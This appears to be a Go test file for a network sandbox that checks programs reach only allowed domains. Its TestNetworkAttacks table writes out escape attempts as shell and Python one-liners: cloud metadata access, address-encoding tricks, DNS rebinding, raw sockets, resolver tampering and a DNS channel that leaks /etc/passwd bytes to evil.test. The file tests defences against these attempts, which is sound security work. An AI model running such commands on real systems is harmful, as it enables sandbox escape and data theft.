package sandbox

import (
	"bufio"
	"cmp"
	"context"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/toolhost/toolhost/guard/internal/proxy"
	"github.com/toolhost/toolhost/guard/sandbox/internal/namespaces"
)

// outerNetwork is what lies outside of a sandbox: hosts below allowed.test, which serve HTTP on port 80, TLS on 443 and note the first
// bytes that they get on other ports.
type outerNetwork struct {
	servers map[string]string // addresses by port; "" is any other

	mu    sync.Mutex
	seen  []string // requests, as "http HOST", "tls NAME" or "raw BYTES"
	names []string // that were looked up
	dials []string // addresses that were connected to
}

func newOuterNetwork(t testing.TB) *outerNetwork {
	w := &outerNetwork{}
	web := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.note("http " + r.Host)
		io.WriteString(rw, "the web: "+r.Host+"\n")
	}))
	t.Cleanup(web.Close)
	secure := httptest.NewUnstartedServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		w.note("tls " + r.TLS.ServerName)
		io.WriteString(rw, "the web: "+r.Host+"\n")
	}))
	secure.Config.ErrorLog = log.New(io.Discard, "", 0)
	secure.StartTLS()
	t.Cleanup(secure.Close)
	raw := listen(t, "tcp", "127.0.0.1:0")
	go func() {
		for {
			c, err := raw.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				first, _ := bufio.NewReader(c).Peek(8)
				w.note("raw " + string(first))
			}()
		}
	}()
	w.servers = map[string]string{"80": web.Listener.Addr().String(), "443": secure.Listener.Addr().String(),
		"": raw.Addr().String()}
	return w
}

func (w *outerNetwork) note(request string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.seen = append(w.seen, request)
}

// options lets a sandbox reach the network.
func (w *outerNetwork) options() Options {
	return Options{
		Backends: []Backend{Namespaces},
		Dial: func(ctx context.Context, network, address string) (net.Conn, error) {
			_, port, _ := net.SplitHostPort(address)
			w.mu.Lock()
			w.dials = append(w.dials, address)
			w.mu.Unlock()
			return (&net.Dialer{}).DialContext(ctx, network, cmp.Or(w.servers[port], w.servers[""]))
		},
		Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
			w.mu.Lock()
			w.names = append(w.names, host)
			w.mu.Unlock()
			switch host {
			case "absent.allowed.test":
				return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
			case "rebind.allowed.test":
				return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
			}
			return []netip.Addr{netip.MustParseAddr("1.2.3.4")}, nil
		},
	}
}

// startWithTUN starts a sandbox that reaches hosts below allowed.test. It skips the test where there is no TUN device.
func startWithTUN(t testing.TB, f *fixture, o Options) *Sandbox {
	t.Helper()
	p := f.policy()
	p.Network.AllowedDomains = []string{"*.allowed.test"}
	s, err := Start(context.Background(), p, o)
	if errors.Is(err, ErrUnavailable) {
		t.Skip(err)
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	if s.outside == nil {
		t.Skip(s.Report())
	}
	return s
}

// A program reaches HOST without proxy variables.
type program struct {
	name, command string
	want          string // in the output, or in what the host got
	port          string // "": it only looks the name up
	needs         string // a command that succeeds where the program is installed; "": its name is looked for
}

// These differ in how they look a name up and connect; programs_slow_linux_test.go has more.
var programs = []program{
	{"curl", "curl -sS http://HOST/", "the web: HOST", "80", ""},
	{"curl", "curl -sSk https://HOST/", "tls HOST", "443", ""},
	{"curl", "printf hellohello | curl -sS telnet://HOST:25", "raw hello", "25", ""},
	{"git", "GIT_SSL_NO_VERIFY=1 git ls-remote https://HOST/x.git", "tls HOST", "443", ""},
	{"git", "GIT_SSH_COMMAND='ssh -o BatchMode=yes -o ConnectTimeout=20' git ls-remote ssh://git@HOST/x.git", "raw SSH-2.0-", "22", ""},
	{"python3", `python3 -c 'import urllib.request as u; print(u.urlopen("http://HOST/").read().decode())'`, "the web: HOST", "80", ""},
	{"go", "GOPROXY=http://HOST GONOSUMDB=* GOFLAGS=-mod=mod GOMODCACHE=$TMPDIR/m GOCACHE=$TMPDIR/c go mod download -x x.test/y@v1.0.0", "http HOST", "80", ""},
	{"node", `node -e 'require("http").get("http://HOST/", r => r.pipe(process.stdout)).on("error", console.log)'`, "the web: HOST", "80", ""},
	{"bash", "exec 3<>/dev/tcp/HOST/25 && printf bashbash >&3 && cat <&3", "raw bashbash", "25", ""},
}

// Every program finds an allowed host without proxy variables. An unknown one is asked about: the program reaches it after the answer,
// or its refusal is named. Programs that are not installed are looked for in TOOLHOST_PROGRAMS, too.
func TestProgramsFindHosts(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	w := newOuterNetwork(t)
	s := startWithTUN(t, f, w.options())
	f.env = append(f.env, "PATH="+strings.TrimPrefix(f.env[0], "PATH=")+":/usr/local/go/bin:"+os.Getenv("HOME")+
		"/.cargo/bin:"+os.Getenv("TOOLHOST_PROGRAMS"), "RUSTUP_HOME="+os.Getenv("HOME")+"/.rustup")
	for i, c := range programs {
		t.Run(c.name+" "+c.port, func(t *testing.T) {
			if r := runIn(t, s, f.ws, f.env, "bash", "-c", cmp.Or(c.needs, "type "+c.name)); r.status.ExitCode != 0 {
				t.Skip(r.output)
			}
			for _, domain := range []string{"allowed.test", "asked.test", "evil.test"} {
				host := fmt.Sprintf("h%d.%s", i, domain)
				s.Refused()
				w.mu.Lock()
				w.seen, w.names = nil, nil
				w.mu.Unlock()
				a := &asked{}
				r := a.run(t, f, s, strings.ReplaceAll(c.command, "HOST", host))
				want := strings.ReplaceAll(c.want, "HOST", host)
				refused := s.Refused()
				w.mu.Lock()
				reached := strings.Contains(r.output, want) ||
					slices.ContainsFunc(w.seen, func(s string) bool { return strings.Contains(s, want) })
				named := slices.ContainsFunc(refused,
					func(r proxy.Refusal) bool { return r.Host == host+":"+c.port && r.Program != "" })
				question := slices.ContainsFunc(a.seen,
					func(q string) bool { return strings.HasSuffix(q, " "+host+":"+c.port) })
				switch asks := domain != "allowed.test" && c.port != ""; {
				case asks != question || !asks && len(a.seen) > 0:
					t.Errorf("asked about %q for %s, output\n%s", a.seen, host, r.output)
				case domain == "evil.test" && (c.port != "" && (reached || !named) || len(w.names) > 0):
					t.Errorf("%s is refused as %v, looked up %v, seen %q, output\n%s", host, refused, w.names,
						w.seen, r.output)
				case domain != "evil.test" && (!reached || len(refused) > 0):
					t.Errorf("%s is not reached: %q, refused %v, output\n%s", host, w.seen, refused, r.output)
				}
				w.mu.Unlock()
			}
		})
	}
}

// What leads past the names that are judged.
func TestNetworkAttacks(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("no python3 here")
	}
	f := newFixture(t)
	f.serve(t)
	w := newOuterNetwork(t)
	s := startWithTUN(t, f, w.options())
	const connect = `python3 -c '
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3); print("BREACH")' `
	for _, c := range []struct {
		name, command string
		refused       string // the host that is named
	}{
		{"metadata", connect + "169.254.169.254 80", "169.254.169.254:80"},
		{"decimal", connect + "2852039166 80", "169.254.169.254:80"},
		{"mapped", connect + "::ffff:169.254.169.254 80", "169.254.169.254:80"},
		{"private", connect + "10.0.0.1 80", "10.0.0.1:80"},
		{"public address", connect + "1.1.1.1 80", "1.1.1.1:80"},
		{"address of an allowed name", connect + "1.2.3.4 80", "1.2.3.4:80"},
		{"IPv6", connect + "2606:4700::1111 80", ""},
		{"link-local IPv6", connect + "fe80::1%tun0 80", ""},
		{"rebinding", connect + "rebind.allowed.test 80", "rebind.allowed.test:80"},
		{"guessed stand-in", connect + "198.18.200.1 80", "198.18.200.1:80"},
		{"the resolver", connect + "198.18.0.1 80", "198.18.0.1:80"},
		{"no such host", "getent ahosts absent.allowed.test && echo BREACH", ""},
		{"the host's loopback", connect + "127.0.0.1 $PORT", ""},
		{"loopback by the device", `python3 -c '
import os, socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"tun0"); s.settimeout(3)
s.connect(("127.0.0.1", int(os.environ["PORT"]))); print("BREACH" if s.recv(9) else "")'`, ""},
		{"fast open", `python3 -c '
import socket
s = socket.socket()
s.sendto(b"data", socket.MSG_FASTOPEN, ("1.1.1.1", 80)); print("BREACH", s.recv(9))'`, ""},
		{"fast open by a message", `python3 -c '
import socket
s = socket.socket()
s.sendmsg([b"data"], [], socket.MSG_FASTOPEN, ("1.1.1.1", 80)); print("BREACH", s.recv(9))'`, ""},
		{"fast open by an option", `python3 -c '
import socket
s = socket.socket(); s.setsockopt(socket.IPPROTO_TCP, 30, 1)
s.connect(("1.1.1.1", 80)); s.send(b"data"); print("BREACH", s.recv(9))'`, "1.1.1.1:80"},
		{"another resolver", `python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.connect(("8.8.8.8", 53))
s.send(b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x04test\x00\x00\x01\x00\x01"); print("BREACH", s.recv(512))'`, ""},
		{"names as a channel", `for i in 1 2 3; do getent hosts $(head -c 30 /etc/passwd | od -An -tx1 | tr -d ' \n').evil.test; done; true`, ""},
		{"raw socket", `python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 6); print("BREACH")'`, ""},
		{"packet socket", `python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print("BREACH")'`, ""},
		{"TUN device", `for c in "link set tun0 down" "addr add 1.2.3.5/32 dev tun0" "route del default" "tuntap add dev tun1 mode tun"; do ip $c && echo BREACH; done; ls /dev/net && echo BREACH; true`, ""},
		{"resolv.conf", `{ echo nameserver 8.8.8.8 >/etc/resolv.conf || rm -f /etc/resolv.conf || mount -t tmpfs x /etc; } && echo BREACH`, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			s.Refused()
			w.mu.Lock()
			w.dials, w.names = nil, nil
			w.mu.Unlock()
			r := runIn(t, s, f.ws, f.env, "timeout", "30", "bash", "-c", c.command)
			if strings.Contains(r.output, breach) {
				t.Errorf("output\n%s", r.output)
			}
			refused := s.Refused()
			if c.refused != "" && !slices.ContainsFunc(refused, func(r proxy.Refusal) bool { return r.Host == c.refused }) {
				t.Errorf("refused %v, output\n%s", refused, r.output)
			}
			w.mu.Lock()
			defer w.mu.Unlock()
			if len(w.dials) > 0 || slices.ContainsFunc(w.names, func(n string) bool { return !strings.HasSuffix(n, ".allowed.test") }) {
				t.Errorf("connected to %v, looked up %v, output\n%s", w.dials, w.names, r.output)
			}
		})
	}
}

// A scan of ports ends, and is told in a bounded way.
func TestPortScanIsBounded(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	w := newOuterNetwork(t)
	s := startWithTUN(t, f, w.options())
	r := runIn(t, s, f.ws, f.env, "python3", "-c", `
import socket
for port in range(1, 400):
    s = socket.socket(); s.settimeout(20)
    if s.connect_ex(("10.0.0.1", port)) == 0: print("BREACH")
    s.close()
print("done")`)
	if n := len(s.Refused()); !strings.Contains(r.output, "done") || strings.Contains(r.output, breach) ||
		n == 0 || n > 100 {
		t.Errorf("%d refusals, output\n%s", n, r.output)
	}
}

// The files by which names are found are the sandbox's own, and those of other databases the host's.
func TestNameFiles(t *testing.T) {
	f := newFixture(t)
	s := startWithTUN(t, f, Options{Backends: []Backend{Namespaces}})
	for _, file := range namespaces.NameContents() {
		if r := runIn(t, s, f.ws, f.env, "cat", file.Path); r.output != file.Content {
			t.Errorf("%s is\n%s", file.Path, r.output)
		}
	}
	if r := runIn(t, s, f.ws, f.env, "bash", "-c",
		"id -un; getent hosts localhost; getent ahostsv4 $(hostname)"); r.status.ExitCode != 0 {
		t.Error(r.output)
	}
}

func BenchmarkTUNConnect(b *testing.B) {
	f := newFixture(b)
	w := newOuterNetwork(b)
	s := startWithTUN(b, f, w.options())
	r := runIn(b, s, f.ws, f.env, "python3", "-c", `
import socket, time
a = socket.gethostbyname("x.allowed.test"); times = []
for _ in range(500):
    s = socket.socket(); t = time.perf_counter(); s.connect((a, 80)); times.append(time.perf_counter() - t); s.close()
times.sort(); print("p50 %.0f us, p99 %.0f us" % (times[250]*1e6, times[495]*1e6))`)
	b.Log(r.output)
}

func BenchmarkTUNBulk(b *testing.B) {
	const size = 400 << 20
	f := newFixture(b)
	w := newOuterNetwork(b)
	l := listen(b, "tcp", "127.0.0.1:0")
	w.servers["9"] = l.Addr().String()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			for block, sent := make([]byte, 1<<20), 0; sent < size; sent += len(block) {
				c.Write(block)
			}
			c.Close()
		}
	}()
	s := startWithTUN(b, f, w.options())
	b.SetBytes(size)
	for b.Loop() {
		r := runIn(b, s, f.ws, f.env, "python3", "-c", `
import socket
s, n, buf = socket.create_connection(("x.allowed.test", 9)), 0, bytearray(1 << 20)
while part := s.recv_into(buf): n += part
print(n)`)
		if strings.TrimSpace(r.output) != fmt.Sprint(size) {
			b.Fatal(r.output)
		}
	}
}
